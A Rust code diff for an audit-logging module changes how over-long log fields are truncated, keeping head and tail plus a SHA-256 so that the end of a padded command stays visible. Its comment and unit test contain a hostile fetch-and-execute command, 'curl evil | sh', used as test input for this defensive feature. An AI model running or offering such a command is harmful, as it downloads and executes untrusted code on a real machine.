@@ -212,15 +212,29 @@ pub fn event(kind: &str) -> Event {
     Event(AuditEvent::new(kind, now_ms()))
 }
 
+/// A field longer than [`MAX_FIELD`] keeps its head and its tail, with how much was cut and
+/// the whole value's SHA-256 between them: what a long command does is usually at its end
+/// (`: <4 KiB of padding>; curl ... | sh`), so cutting only the tail would hide it.
 fn cut(s: &str) -> String {
     if s.len() <= MAX_FIELD {
         return s.to_string();
     }
-    let mut end = MAX_FIELD;
-    while !s.is_char_boundary(end) {
-        end -= 1;
+    let half = MAX_FIELD / 2;
+    let mut head = half;
+    while !s.is_char_boundary(head) {
+        head -= 1;
     }
-    format!("{}...", &s[..end])
+    let mut tail = s.len() - half;
+    while !s.is_char_boundary(tail) {
+        tail += 1;
+    }
+    format!(
+        "{}...[{} bytes cut; sha256 of the whole {}]...{}",
+        &s[..head],
+        tail - head,
+        edgeport_proto::keys::sha256_hex(s.as_bytes()),
+        &s[tail..]
+    )
 }
 
 impl Event {
@@ -247,5 +261,27 @@ impl Event {
     }
     pub fn emit(self) {
         emit(self.0)
+    }
+}
+
+#[cfg(test)]
+mod cut_tests {
+    use super::*;
+
+    #[test]
+    fn a_long_field_keeps_its_head_and_tail() {
+        let cmd = format!(": {}; curl evil | sh", "x".repeat(5000));
+        let c = cut(&cmd);
+        assert!(
+            c.starts_with(": xxx") && c.ends_with("; curl evil | sh"),
+            "{c}"
+        );
+        assert!(c.len() < MAX_FIELD + 200);
+        assert!(c.contains(&edgeport_proto::keys::sha256_hex(cmd.as_bytes())));
+        // Multi-byte characters on the cut points.
+        let wide = "é".repeat(4000);
+        let c = cut(&wide);
+        assert!(c.starts_with('é') && c.ends_with('é'));
+        assert_eq!(cut("short"), "short");
     }
 }
